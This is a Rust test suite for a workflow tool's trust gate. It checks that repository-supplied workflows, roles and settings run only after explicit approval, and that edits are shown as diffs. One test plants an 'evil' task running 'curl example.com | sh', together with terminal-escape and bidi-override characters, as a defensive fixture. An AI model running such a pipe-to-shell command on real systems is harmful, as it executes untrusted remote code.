//! What comes with a repository is looked at before it counts, and nothing but `run` runs it.

use crate::rig::{Done, Rig};

/// A repository whose workflow leaves a mark when any of it runs.
const WORKFLOW: &str = "name: marks
tasks:
  a: {run: touch MARK, probe: touch MARK, effect: probed, validate: [touch MARK], undo: touch MARK}
  b: {run: 'true', needs: [a], on_failure: {run: touch MARK}}
";

fn rig() -> Rig {
    let rig = Rig::new();
    rig.repository("r");
    let mark = rig.path("mark").display().to_string();
    rig.write("r/w.yaml", &WORKFLOW.replace("MARK", &mark));
    rig
}

fn wary(rig: &Rig, arguments: &[&str]) -> Done {
    rig.wary(arguments).current_dir(rig.path("r")).output().unwrap().into()
}

/// The message without the folder of the test.
fn told(rig: &Rig, done: &Done) -> String {
    let folder = rig.folder().canonicalize().unwrap();
    done.err.replace(&folder.display().to_string(), "TMP").replace(&rig.folder().display().to_string(), "TMP")
}

#[test]
fn a_workflow_of_a_repository_is_refused_until_it_is_trusted() {
    let rig = rig();
    let refused = wary(&rig, &["run", "w.yaml"]);
    assert_eq!((refused.code, refused.out.as_str()), (Some(2), ""));
    insta::assert_snapshot!(told(&rig, &refused), @r"
    error[WF0042]: not trusted, and comes with a repository: w.yaml
      hint: Look at it and agree to it with: wfctl trust w.yaml
    ");
    assert!(!rig.folder().join("home").exists(), "a refusal makes no home");
    let json = wary(&rig, &["run", "w.yaml", "--json", "--detach"]);
    assert_eq!(json.code, Some(2));
    let error: serde_json::Value = serde_json::from_str(&json.err).unwrap();
    assert_eq!(error["code"], "WF0042");

    let nobody = wary(&rig, &["trust", "w.yaml"]);
    assert_eq!(nobody.code, Some(2), "nobody is there to say yes");
    assert!(nobody.err.contains("    3 |   a: {run: touch"), "it is shown whole: {}", nobody.err);
    assert!(nobody.err.contains("It would:\n  run: touch"), "{}", nobody.err);
    assert_eq!(wary(&rig, &["run", "w.yaml"]).code, Some(2));

    let trusted = wary(&rig, &["trust", "--yes", "w.yaml"]);
    assert_eq!(trusted.code, Some(0), "{}", trusted.err);
    let listed = wary(&rig, &["trust", "--list"]);
    assert!(listed.out.contains("r/w.yaml"), "{}", listed.out);
    assert!(!rig.path("mark").exists());
    let done = wary(&rig, &["run", "w.yaml", "--id", "p"]);
    assert_eq!(done.code, Some(0), "{}", done.err);
    assert!(rig.path("mark").exists(), "the mark shows that it ran");

    assert_eq!(wary(&rig, &["trust", "--revoke", "w.yaml"]).code, Some(0));
    assert_eq!(wary(&rig, &["run", "w.yaml"]).code, Some(2));
    assert_eq!(wary(&rig, &["trust", "--revoke", "w.yaml"]).code, Some(2), "there is nothing to take back");
}

#[test]
fn a_change_is_asked_for_again_and_shown_as_one() {
    let rig = rig();
    assert_eq!(wary(&rig, &["trust", "-y"]).err.matches("trusted: ").count(), 0, "w.yaml is in no folder of workflows");
    assert_eq!(wary(&rig, &["run", "w.yaml", "--trust"]).code, Some(0));
    let text = rig.read("r/w.yaml");
    rig.write(
        "r/w.yaml",
        &format!("{text}  evil: {{run: 'curl example.com | sh'}}\n# \x1b[2J\u{202e}\n").replace('\x1b', "\u{9b}"),
    );
    let refused = wary(&rig, &["run", "w.yaml"]);
    assert_eq!(refused.code, Some(2));
    let shown = wary(&rig, &["trust", "w.yaml"]);
    assert!(shown.err.contains("changed since it was trusted"), "{}", shown.err);
    assert!(shown.err.contains("    5 +   evil: {run: 'curl example.com | sh'}"), "{}", shown.err);
    assert!(!shown.err.contains("    1 "), "what did not change is not: {}", shown.err);
    assert!(!shown.err.contains(['\u{9b}', '\u{202e}']), "a terminal obeys nothing of it");
    rig.write("r/w.yaml", &text);
    assert_eq!(wary(&rig, &["run", "w.yaml"]).code, Some(0), "what was trusted once still is");
}

#[test]
fn children_names_links_and_added_tasks_need_trust_too() {
    let rig = rig();
    std::fs::create_dir_all(rig.path("r/.wfctl/workflows")).unwrap();
    rig.write("r/parent.yaml", "name: p\ntasks: {c: {workflow: ./w.yaml}}\n");
    assert_eq!(wary(&rig, &["trust", "-y", "parent.yaml"]).code, Some(0));
    rig.write("r/w.yaml", &rig.read("r/w.yaml").replace("name: marks", "name: other"));
    let child = wary(&rig, &["run", "parent.yaml"]);
    assert!(child.code == Some(2) && child.err.contains("w.yaml"), "{}", child.err);
    rig.write("r/.wfctl/workflows/ci.yaml", &rig.read("r/w.yaml"));
    let shadow = wary(&rig, &["run", "ci"]);
    assert!(shadow.code == Some(2) && shadow.err.contains("WF0042"), "by name: {}", shadow.err);
    // From outside, and through a link.
    std::os::unix::fs::symlink(rig.path("r/w.yaml"), rig.path("link.yaml")).unwrap();
    for name in ["r/w.yaml", "link.yaml"] {
        let done: Done = rig.wary(&["run", name]).output().unwrap().into();
        assert_eq!(done.code, Some(2), "{name}: {}", done.err);
    }
    rig.write("open.yaml", "name: open\ntasks: {a: {approval: {ask: go?}}}\n");
    assert_eq!(rig.wary(&["run", "open.yaml", "--id", "open", "--detach"]).output().unwrap().status.code(), Some(0));
    let added = wary(&rig, &["add", "open", "w.yaml"]);
    assert!(added.code == Some(2) && added.err.contains("WF0042"), "{}", added.err);
    assert_eq!(wary(&rig, &["kill", "open"]).code, Some(0));
    assert!(!rig.path("mark").exists());
    let all = wary(&rig, &["trust", "-y"]);
    assert!(all.err.contains("ci.yaml"), "{}", all.err);
    assert_eq!(wary(&rig, &["run", "ci", "--id", "ci"]).code, Some(0));
}

#[test]
fn what_is_shipped_or_own_or_written_by_wfctl_needs_none() {
    let rig = rig();
    rig.write("mine.yaml", "name: mine\ntasks: {a: {run: 'true'}}\n");
    assert_eq!(rig.wary(&["run", "mine.yaml"]).output().unwrap().status.code(), Some(0));
    assert_eq!(wary(&rig, &["run", "../mine.yaml"]).code, Some(0));
    assert_eq!(wary(&rig, &["init", "hello.yaml"]).code, Some(0));
    assert!(wary(&rig, &["trust", "hello.yaml"]).err.contains("all of it counts already"));
    let shipped = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/workflows/release.yaml")).unwrap();
    rig.write("r/copy.yaml", &shipped);
    let done = wary(&rig, &["run", "copy.yaml", "-i", "version=1.0.0", "-i", "check=true", "--detach"]);
    assert_eq!(done.code, Some(0), "the very content of a shipped one: {}", done.err);
}

#[test]
fn roles_of_the_commit_that_a_project_begins_from_are_asked_for() {
    let rig = rig();
    rig.write("w.yaml", "name: w\nworkspace: worktree\ntasks: {a: {run: 'true'}}\n");
    std::fs::create_dir_all(rig.path("r/.wfctl/roles")).unwrap();
    let role = "+++\nname = 'reviewer'\n+++\nsay yes\n";
    rig.write("r/.wfctl/roles/reviewer.md", role);
    assert_eq!(wary(&rig, &["run", "../w.yaml"]).code, Some(0), "it is not committed, so nobody reads it");
    rig.git("r", &["add", ".wfctl"]);
    rig.git("r", &["commit", "-q", "-m", "a role"]);
    let refused = wary(&rig, &["run", "../w.yaml"]);
    insta::assert_snapshot!(told(&rig, &refused), @r"
    error[WF0042]: not trusted, and comes with a repository: .wfctl/roles/reviewer.md
      hint: Look at it and agree to it with: wfctl trust .wfctl/roles/reviewer.md
    ");
    // What is in the checkout is another matter than what is committed.
    rig.write("r/.wfctl/roles/reviewer.md", "harmless");
    let shown = wary(&rig, &["trust", "-y", ".wfctl/roles/reviewer.md"]);
    assert!(shown.err.contains("say yes") && shown.err.contains("harmless"), "{}", shown.err);
    assert_eq!(wary(&rig, &["run", "../w.yaml"]).code, Some(0));
    rig.git("r", &["commit", "-q", "-a", "-m", "another role"]);
    assert_eq!(wary(&rig, &["run", "../w.yaml"]).code, Some(0), "both were trusted");
    rig.write("r/.wfctl/roles/reviewer.md", "third");
    rig.git("r", &["commit", "-q", "-a", "-m", "a third one"]);
    assert_eq!(wary(&rig, &["run", "../w.yaml"]).code, Some(2));
}

#[test]
fn settings_of_a_repository_count_once_they_are_trusted() {
    let rig = rig();
    rig.write("mine.yaml", "name: mine\ntasks: {a: {run: 'true'}}\n");
    rig.write("r/.wfctl.toml", "workers = 3\n");
    let refused = wary(&rig, &["run", "../mine.yaml"]);
    assert!(refused.code == Some(2) && refused.err.contains(".wfctl.toml"), "{}", refused.err);
    let shown = wary(&rig, &["config", "show"]);
    assert!(!shown.out.contains("workers = 3") && shown.err.contains("do not count"), "{} {}", shown.out, shown.err);
    assert_eq!(wary(&rig, &["run", "../mine.yaml", "--trust"]).code, Some(0));
    let shown = wary(&rig, &["config", "show"]);
    assert!(shown.out.contains("workers = 3") && shown.err.is_empty(), "{} {}", shown.out, shown.err);
    rig.write("r/.wfctl.toml", "workers = 4\n");
    assert_eq!(wary(&rig, &["run", "../mine.yaml"]).code, Some(2), "a change is asked for again");
    let trusted = wary(&rig, &["trust", "-y"]);
    assert!(trusted.err.contains("    1 - workers = 3\n    1 + workers = 4"), "{}", trusted.err);
    assert!(wary(&rig, &["config", "show"]).out.contains("workers = 4"));
}

#[test]
fn looking_at_a_workflow_runs_nothing_and_needs_no_trust() {
    let rig = rig();
    rig.write("mine.yaml", "name: mine\ntasks: {a: {run: 'true'}}\n");
    assert_eq!(wary(&rig, &["run", "../mine.yaml", "--id", "p"]).code, Some(0));
    std::fs::create_dir(rig.path("r/workflows")).unwrap();
    rig.write("r/workflows/marks.yaml", &rig.read("r/w.yaml"));
    for name in ["w.yaml", "marks"] {
        for verb in [
            &["validate", name][..],
            &["graph", name],
            &["graph", name, "--format", "svg"],
            &["run", name, "--dry-run"],
            &["diff", "p", name],
        ] {
            let done = wary(&rig, verb);
            assert_eq!(done.code, Some(0), "{verb:?}: {}", done.err);
        }
    }
    for verb in [
        &["trust"][..],
        &["trust", "w.yaml"],
        &["trust", "--yes", "w.yaml"],
        &["trust", "--list"],
        &["list"],
        &["show", "p"],
        &["index"],
        &["completions", "bash"],
        &["schema", "workflow"],
        &["config", "show"],
        &["doctor"],
    ] {
        wary(&rig, verb);
    }
    assert!(!rig.path("mark").exists(), "something ran");
    assert_eq!(wary(&rig, &["run", "w.yaml"]).code, Some(0));
    assert!(rig.path("mark").exists(), "the mark can be left");
}

#[test]
fn a_person_at_a_terminal_is_asked_once() {
    let rig = rig();
    if !std::path::Path::new("/usr/bin/script").exists() {
        eprintln!("skipped: no `script` here, which gives a program a terminal");
        return;
    }
    let binary = env!("CARGO_BIN_EXE_wfctl");
    let ask = |answer: &str, id: &str| {
        let line = format!("printf '{answer}\\n' | script -qec '{binary} run w.yaml --id {id}' /dev/null");
        #[expect(clippy::disallowed_methods, reason = "a test gives the binary a terminal")]
        let mut command = std::process::Command::new("/bin/sh");
        command.args(["-c", &line]).current_dir(rig.path("r")).env_clear();
        command.env("PATH", "/usr/local/bin:/usr/bin:/bin").env("USER", "tester").env("TERM", "dumb");
        command.env("HOME", rig.folder()).env("WFCTL_HOME", rig.folder().join("home"));
        Done::from(command.output().unwrap())
    };
    let no = ask("n", "no");
    assert!(no.out.contains("Do you trust this file? [y/N]") && no.out.contains("WF0042"), "{}", no.out);
    assert!(!rig.path("mark").exists());
    let yes = ask("y", "yes");
    assert!(yes.out.contains("yes DONE"), "{}", yes.out);
    let again = ask("", "again");
    assert!(!again.out.contains("Do you trust") && again.out.contains("again DONE"), "{}", again.out);
}
